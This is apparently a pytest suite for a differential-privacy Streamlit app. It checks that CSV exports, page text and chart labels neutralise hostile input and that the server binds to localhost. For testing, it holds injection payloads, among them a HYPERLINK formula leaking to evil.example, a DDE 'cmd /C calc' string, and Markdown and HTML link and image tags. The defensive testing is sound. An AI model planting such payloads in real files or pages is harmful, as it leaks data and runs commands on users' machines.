"""Hostile user text stays inert: formula cells in every CSV, Markdown in file, column, dataset and user
names on the pages, HTML in chart labels, and the server bound to this machine unless sign-in is on."""

from __future__ import annotations

import csv
import io
import os
import re
import socket
import subprocess
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dpcore import config, plots
from dpcore.artifacts import release_files
from dpcore.ledger import Account, Ledger
from dpcore.safe_text import csv_bytes, neutralise_cell, plot_text
from tests.paths import ROOT
from tests.prep_table import edit_table
from ui import listen
from ui.text import md

TIMEOUT = 60
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
CMD = "+cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, CMD, "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
IMAGE_NAME = "![t](http://127.0.0.1:8612/name.png).csv"
LINK_COLUMN = '<a href="https://evil.example/x">'


def _rows(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode(), newline="")))


# ---------------------------------------------------------------- CSV formula injection


def test_release_csv_neutralises_formula_headers_and_text_cells_but_not_numbers() -> None:
    table = pd.DataFrame(
        {
            HYPERLINK: [1.5, 2.5, 3.5, 4.5, 5.5, 6.5],
            "category": pd.Categorical(FORMULAS),
            "label": FORMULAS,
            "value": [-3.2, -1.0, 0.0, 2.0, -7.0, 1e-9],
        }
    )
    files = release_files(table, {"request_id": "abcdef123456", "demo": False}, name="hostile")
    header, *rows = _rows(files["hostile-abcdef12.csv"])
    assert header == ["'" + HYPERLINK, "category", "label", "value"]
    assert [r[1] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[2] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[3] for r in rows] == ["-3.2", "-1.0", "0.0", "2.0", "-7.0", "1e-09"]  # numbers stay numbers


def test_csv_bytes_leaves_plain_text_and_non_strings_alone() -> None:
    frame = pd.DataFrame({"name": ["Oslo", "a=b", "-3.2", None, "x\r=1+1"], "n": [1, -2, 3, 4, 5]})
    header, *rows = _rows(csv_bytes(frame))
    assert header == ["name", "n"]
    assert rows == [["Oslo", "1"], ["a=b", "-2"], ["'-3.2", "3"], ["", "4"], ["x\r=1+1", "5"]]
    assert neutralise_cell(-3.2) == -3.2 and neutralise_cell("=1") == "'=1"


def test_ledger_csv_neutralises_the_user_name(app_path: str, downloads: dict[str, bytes]) -> None:
    ledger = Ledger(config.ledger_url())
    ledger.register_dataset("hostile0000000001", IMAGE_NAME)
    account = Account("hostile0000000001", "dp", "one row added or removed")
    ledger.set_budget(account, 1.0, 0.0)
    ledger.spend(account, 0.5, 0.0, "dp_lloyd", "req-hostile", user=HYPERLINK, definition="pure_dp")
    at = AppTest.from_file(app_path, default_timeout=TIMEOUT).run()
    at.switch_page("pages/ledger.py").run()
    assert not at.exception, [e.value for e in at.exception]
    exported = _rows(downloads["ledger.csv"])
    user = exported[0].index("user")
    assert exported[1][user] == "'" + HYPERLINK
    headings = [h.value for h in at.subheader]
    assert md(IMAGE_NAME) in headings and IMAGE_NAME not in headings  # the name shown literally


# ---------------------------------------------------------------- Markdown on the pages


def _shown_text(at: AppTest) -> list[str]:
    """Every Markdown body on the page and in the sidebar, and every widget label and radio option."""
    bodies = [
        e.value
        for kind in ("markdown", "caption", "info", "warning", "error", "success", "header", "subheader")
        for e in getattr(at, kind)
    ]
    widgets = ("text_input", "radio", "checkbox", "multiselect")
    labels = [w.label for kind in widgets for w in getattr(at, kind)]
    options = [str(o) for r in at.radio for o in r.options]
    return bodies + labels + options


ACTIVE = re.compile(r"(?<!\\)\]\(|(?<!\\)<a href")  # a link or image target, an HTML link (unescaped)


def _assert_inert(texts: list[str]) -> None:
    for text in texts:
        assert not ACTIVE.search(text), text


def test_data_page_shows_a_hostile_file_and_column_name_escaped(app_path: str) -> None:
    upload = f'{LINK_COLUMN},city\n1.0,"![x](http://10.0.0.1/c.png)"\n2.0,Oslo\n3.0,Bergen\n'.encode()
    at = AppTest.from_file(app_path, default_timeout=TIMEOUT).run()
    at.switch_page("pages/data.py").run()
    at.radio(key="data_source").set_value("Upload a file").run()
    at.file_uploader(key="data_upload").set_value((IMAGE_NAME, upload, "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    ds = at.session_state["dp_dataset"]
    assert ds.name == IMAGE_NAME
    edit_table(at, features=[LINK_COLUMN])
    texts = _shown_text(at)
    _assert_inert(texts)
    assert any(t.startswith(f"**{md(IMAGE_NAME)}**") for t in texts)  # overview and sidebar: the name
    assert any(md(LINK_COLUMN) in t for t in texts)  # the bounds row names the column


def test_upload_error_names_a_hostile_file_escaped(app_path: str) -> None:
    at = AppTest.from_file(app_path, default_timeout=TIMEOUT).run()
    at.switch_page("pages/data.py").run()
    at.radio(key="data_source").set_value("Upload a file").run()
    at.file_uploader(key="data_upload").set_value((IMAGE_NAME, b"\x00\x01\x02 not a table", "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.error, "an unreadable file is reported"
    _assert_inert([e.value for e in at.error])


def test_md_makes_markdown_literal() -> None:
    assert md(IMAGE_NAME) == "!\\[t\\](http:\u2060//127.0.0.1:8612/name.png).csv"
    assert md(LINK_COLUMN).startswith("\\<a href")
    assert md("block_width") == "block_width" and md("_x_") == "\\_x\\_"  # only emphasis underscores
    assert md("# title\nnext") == "\\# title next" and md("$x$ *y* `z`") == "\\$x\\$ \\*y\\* \\`z\\`"
    assert md("www.evil.example") == "www\u2060.evil.example"  # no autolink
    assert [md(t) for t in ("0.5", "-3.2", "- x", "1. x")] == ["0.5", "-3.2", "\\- x", "1\\. x"]


# ---------------------------------------------------------------- HTML in chart text


def _strings(node: object) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for key, value in node.items():
            yield str(key)
            yield from _strings(value)
    elif isinstance(node, list | tuple | np.ndarray):
        for value in node:
            yield from _strings(value)


def _no_markup(fig) -> None:
    texts = list(_strings(fig.to_plotly_json()))
    assert texts and not [t for t in texts if "<a href" in t or "<img" in t]


def test_release_chart_shows_hostile_column_names_as_text() -> None:
    features = [LINK_COLUMN, "<img src=x>"]
    table = pd.DataFrame({"cluster": [0, 1], **{f"{f} [public units]": [10.0, -40.0] for f in features}})
    positions = np.array([[0.6, 0.1], [0.2, 0.9]])  # not the values: the released values are on hover
    fig = plots.released_centers_figure(table, features, "DP-Lloyd <b>x</b>", positions)
    assert list(fig.data[1].customdata) == ["-40", "-40"]
    _no_markup(fig)
    assert plot_text(LINK_COLUMN) in fig.data[0].x  # the bars are labelled with the name, as text


def test_violins_show_a_hostile_column_name_as_text() -> None:
    df = pd.DataFrame({LINK_COLUMN: np.arange(6.0)})
    fig = plots.violins(df, LINK_COLUMN, np.array([0, 0, 0, 1, 1, 1]), np.array([0, 0, 1, 1, 1, 1]))
    _no_markup(fig)
    assert fig.layout.yaxis.title.text == plot_text(LINK_COLUMN)


# ---------------------------------------------------------------- where the server listens


def test_config_binds_to_localhost() -> None:
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["server"]["address"] == "localhost"


def test_listen_address_is_local_unless_sign_in_or_the_operator_opens_it(monkeypatch) -> None:
    monkeypatch.delenv(listen.LISTEN_ALL_ENV, raising=False)
    monkeypatch.setattr(listen.auth, "auth_enabled", lambda: False)
    assert listen.listen_address()[0] == "localhost"
    monkeypatch.setenv(listen.LISTEN_ALL_ENV, "0")
    assert listen.listen_address()[0] == "localhost"
    monkeypatch.setenv(listen.LISTEN_ALL_ENV, "1")
    assert listen.listen_address()[0] == "0.0.0.0"
    monkeypatch.delenv(listen.LISTEN_ALL_ENV)
    monkeypatch.setattr(listen.auth, "auth_enabled", lambda: True)
    assert listen.listen_address()[0] == "0.0.0.0"


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _listening(port: int) -> set[str]:
    """Local addresses (IPv4 and IPv6) with a socket listening on ``port``, from /proc/net/tcp[6]."""
    found = set()
    for table, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        path = Path("/proc/net") / table
        for line in path.read_text().splitlines()[1:] if path.exists() else []:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.split(":")
            if state == "0A" and int(hex_port, 16) == port:  # 0A: LISTEN
                raw = b"".join(bytes.fromhex(address[i : i + 8])[::-1] for i in range(0, len(address), 8))
                found.add(socket.inet_ntop(family, raw))
    return found


def _installed() -> bool:
    """run-app would not install anything first (its marker is newer than requirements.txt)."""
    marker = ROOT / ".venv" / ".installed-runtime"
    return marker.exists() and marker.stat().st_mtime >= (ROOT / "requirements.txt").stat().st_mtime


@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs Linux's /proc/net/tcp")
@pytest.mark.skipif(not _installed(), reason="scripts/run-app would install the requirements first")
@pytest.mark.skipif((ROOT / ".streamlit" / "secrets.toml").exists(), reason="sign-in is configured here")
def test_run_app_listens_on_localhost_only_without_sign_in(tmp_path: Path) -> None:
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if k != listen.LISTEN_ALL_ENV}
    log = tmp_path / "run-app.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(
            [str(ROOT / "scripts" / "run-app"), "--server.port", str(port)],
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    try:
        deadline = time.monotonic() + 60
        while not _listening(port) and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.25)
        bound = _listening(port)
        assert bound and bound <= {"127.0.0.1", "::1"}, (bound, log.read_text())
        assert "localhost" in log.read_text() and "sign-in is off" in log.read_text()
    finally:
        os.killpg(proc.pid, 15)
        proc.wait(timeout=30)
